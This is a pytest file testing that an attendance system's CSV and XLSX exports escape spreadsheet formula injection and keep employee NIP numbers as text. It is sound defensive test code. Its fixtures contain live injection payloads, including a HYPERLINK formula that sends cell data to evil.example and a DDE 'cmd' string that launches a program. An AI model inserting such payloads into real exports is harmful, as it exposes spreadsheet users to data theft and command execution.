"""The attendance export opened in a spreadsheet: no cell runs as a formula, the NIP stays
text (not 1.98509E+17). Names and units come from roster files, and a lying node can sign a
formula as a NIP."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from central.spreadsheet import FORMULA_START, csv_cell, nip_cell

from .conftest import Clock, FakeNode
from .trustkit import at, install, nip, person

DAY = "2026-10-12"
NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Lihat")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTab",
    "\rCarriage",
]
FORMULA_NIP = '=HYPERLINK("http://evil.example","1")'


@pytest.fixture
def day(app: Flask, client: FlaskClient, node: FakeNode, clock: Clock) -> None:
    people = [person(i, "Seksi Pemerintahan", None) for i in range(len(NAMES))]
    people = [
        p.__class__(p.nip, name, "=1+1" if i == 0 else p.unit, p.role, p.pin_hash, None)
        for i, (p, name) in enumerate(zip(people, NAMES, strict=True))
    ]
    clock.now = at(DAY, "07:00")
    install(app, people, clock.now)
    node.anchor(node.push(client).get_json()["receipt"])
    node.checkin(nip(0), ts=at(DAY, "07:10"))
    node.checkin(FORMULA_NIP, ts=at(DAY, "07:11"))  # a node signing a lie
    clock.now = at(DAY, "07:20")
    assert node.push(client, 1).status_code == 200


def test_csv_cells_never_start_a_formula(client: FlaskClient, viewer_token: str, day: None) -> None:
    r = client.get(
        f"/api/v1/attendance?date={DAY}&format=csv",
        headers={"Authorization": f"Bearer {viewer_token}"},
    )
    assert r.status_code == 200
    text = r.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    by_name = {row[1]: row for row in rows[1:]}
    for name in NAMES:
        assert "'" + name in by_name  # kept, readable, inert
    # The exact bytes of the first employee: NIP as text, name and unit escaped.
    line = next(line for line in text.split("\r\n") if line.startswith(f"'{nip(0)},"))
    assert line.startswith(
        f'\'{nip(0)},"\'=HYPERLINK(""http://evil.example/?d=""&A1,'
        '""Lihat"")",\'=1+1,2026-10-12T07:10:00.000+08:00,kec-alalak,'
    )
    nips = [row[0] for row in rows[1:]]
    assert f"'{nip(0)}" in nips and "'" + FORMULA_NIP in nips


def test_xlsx_keeps_text_as_text(client: FlaskClient, viewer_token: str, day: None) -> None:
    r = client.get(
        f"/api/v1/attendance?date={DAY}&format=xlsx",
        headers={"Authorization": f"Bearer {viewer_token}"},
    )
    assert r.status_code == 200 and (r.mimetype or "").endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(r.get_data())).worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["nip", "name", "unit"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    nip_cell_0 = cells[nip(0)][0]
    assert nip_cell_0.data_type == "s" and nip_cell_0.value == nip(0)
    assert cells[nip(0)][1].value == NAMES[0] and cells[nip(0)][1].data_type == "s"
    assert cells[FORMULA_NIP][0].data_type == "s"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+SUM(1)", "'+SUM(1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Siti Rahmah", "Siti Rahmah"),
        (None, ""),
        (15, "15"),
        ("2026-10-12T07:10:00.000+08:00", "2026-10-12T07:10:00.000+08:00"),
    ],
)
def test_csv_cell(value: object, expected: str) -> None:
    assert csv_cell(value) == expected


def test_nip_cell() -> None:
    assert nip_cell("198501012010011001") == "'198501012010011001"
    assert nip_cell("=1+1") == "'=1+1" and nip_cell(None) == "" and nip_cell("abc") == "abc"
